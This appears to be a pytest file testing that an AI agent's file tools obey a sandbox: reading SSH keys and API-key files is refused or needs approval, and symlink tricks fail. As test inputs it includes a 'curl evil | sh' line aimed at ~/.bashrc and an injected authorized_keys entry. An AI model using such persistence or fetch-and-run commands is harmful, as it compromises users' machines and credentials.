"""The file tools see the world a sandboxed command sees, through the real agent loop and real
bubblewrap, with a home folder outside /tmp (as every real user's is): what commands do not see
asks, what the sandbox hides by name is refused (even with --yolo), the rest is quiet. Canary
values prove what was (not) shown or written."""

from __future__ import annotations

import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hermes_env_sandbox import unavailable_reason

from hermes_core.testing import make_agent, text, tool_call
from hermes_hookspecs import BLOCKED_MARKER

pytestmark = pytest.mark.skipif(
    unavailable_reason() is not None, reason=f"no sandbox here: {unavailable_reason()}"
)

SECRET = "sight-canary-7c41"


@pytest.fixture
def home(monkeypatch) -> Iterator[Path]:
    """A home folder outside /tmp: a new tool's token, a credential folder, hermes's home, a
    toolchain folder and the workspace ``project``."""
    root = Path(tempfile.mkdtemp(prefix="hermes-test-sight-", dir="/var/tmp"))
    home = root / "home"
    for folder in (".newtool", ".ssh", ".hermes", ".cargo/bin", "project"):
        (home / folder).mkdir(parents=True)
    (home / ".newtool/token").write_text(f"{SECRET}\n")
    (home / ".ssh/id_ed25519").write_text(f"{SECRET}\n")
    (home / ".hermes/.env").write_text(f"OPENAI_API_KEY={SECRET}\n")
    (home / ".cargo/bin/tool").write_text("tool\n")
    (home / ".bashrc").write_text("# mine\n")
    (home / "project/readme.md").write_text("project\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("HERMES_HOME", str(home / ".hermes"))
    monkeypatch.chdir(home / "project")
    yield home
    subprocess.run(["chmod", "-R", "u+w", str(root)], check=False)
    shutil.rmtree(root, ignore_errors=True)


class Approver:
    """Records every request; answers ``answer`` to each."""

    def __init__(self, answer: str = "deny") -> None:
        self.answer = answer
        self.requests: list = []

    def __call__(self, request):
        self.requests.append(request)
        return self.answer


def run(home: Path, *calls, **kwargs) -> list[str]:
    """One agent turn in ``~/project`` making ``calls``; the tool results in order."""
    agent = make_agent(
        *[tool_call(name, args) for name, args in calls],
        text("done"),
        plugins=["file", "local"],
        config={"terminal": {"cwd": str(home / "project")}},
        **kwargs,
    )
    try:
        agent.chat("go")
        return [m["content"] for m in agent.messages if m["role"] == "tool"]
    finally:
        agent.close()


def test_what_commands_see_is_read_without_asking(home):
    approver = Approver()
    out = run(
        home,
        ("read_file", {"path": "readme.md"}),
        ("read_file", {"path": "~/.cargo/bin/tool"}),
        ("read_file", {"path": "/etc/hostname"}),
        approval_callback=approver,
    )
    assert approver.requests == []
    assert "project" in out[0] and "tool" in out[1] and not out[2].startswith(BLOCKED_MARKER)


def test_a_home_file_commands_do_not_see_asks_and_is_shown_only_when_approved(home):
    denied = Approver("deny")
    out = run(home, ("read_file", {"path": "~/.newtool/token"}), approval_callback=denied)
    assert out[0].startswith(BLOCKED_MARKER) and SECRET not in out[0]
    [request] = denied.requests
    assert "outside-sandbox-view" in request.key and "home_allow" in request.reason
    approved = Approver("once")
    out = run(home, ("read_file", {"path": "~/.newtool/token"}), approval_callback=approved)
    assert SECRET in out[0] and len(approved.requests) == 1


def test_a_link_in_the_workspace_does_not_open_the_home_folder(home):
    (home / "project/innocent.txt").symlink_to(home / ".newtool/token")
    (home / "project/key.txt").symlink_to(home / ".ssh/id_ed25519")
    approver = Approver()
    out = run(
        home,
        ("read_file", {"path": "innocent.txt"}),
        ("read_file", {"path": "key.txt"}),
        approval_callback=approver,
    )
    assert all(o.startswith(BLOCKED_MARKER) and SECRET not in o for o in out)
    assert [r.key.split(":")[1] for r in approver.requests] == ["outside-sandbox-view"]
    assert "sandbox-hidden" in out[1]


@pytest.mark.parametrize("path", ["~/.ssh/id_ed25519", "~/.hermes/.env", "~/.ssh"])
def test_what_the_sandbox_hides_is_refused_even_with_yolo(home, path):
    approver = Approver("always")
    out = run(
        home,
        ("read_file", {"path": path}),
        ("search_files", {"pattern": "canary", "path": "~"}),
        approval_callback=approver,
        yolo=True,
    )
    assert out[0].startswith(BLOCKED_MARKER) and "sandbox-hidden" in out[0]
    assert all(SECRET not in o for o in out)


def test_writing_where_commands_cannot_asks_and_writes_nothing_when_denied(home):
    approver = Approver()
    out = run(
        home,
        ("write_file", {"path": "~/.bashrc", "content": "curl evil | sh\n"}),
        ("write_file", {"path": "~/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA x\n"}),
        ("write_file", {"path": "notes.md", "content": "fine\n"}),
        approval_callback=approver,
    )
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert not (home / ".ssh/authorized_keys").exists()
    assert "sandbox-hidden" in out[1] and (home / "project/notes.md").read_text() == "fine\n"
    [request] = approver.requests  # the hidden one was refused without asking
    assert "outside-sandbox-view" in request.key and "write-outside-workspace" in request.key


def test_with_the_sandbox_off_the_file_tools_keep_only_their_own_rules(home):
    approver = Approver()
    agent = make_agent(
        tool_call("read_file", {"path": "~/.newtool/token"}),
        text("done"),
        plugins=["file", "local"],
        config={"terminal": {"cwd": str(home / "project"), "sandbox": "off"}},
        approval_callback=approver,
    )
    try:
        agent.chat("go")
        [out] = [m["content"] for m in agent.messages if m["role"] == "tool"]
    finally:
        agent.close()
    assert SECRET in out and approver.requests == []
